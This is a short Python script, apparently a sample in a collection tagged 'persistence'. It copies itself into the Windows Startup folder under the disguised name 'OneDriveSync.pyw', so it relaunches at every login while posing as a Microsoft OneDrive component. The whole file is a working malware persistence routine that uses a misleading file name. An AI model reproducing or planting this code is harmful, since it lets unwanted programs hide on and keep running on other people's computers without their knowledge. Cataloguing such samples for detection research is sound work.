# family: persistence
# a copy of itself placed in the Windows Startup folder
import os
import shutil
import sys

startup = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
target = os.path.join(startup, "OneDriveSync.pyw")
if not os.path.exists(target):
    shutil.copyfile(os.path.abspath(sys.argv[0]), target)
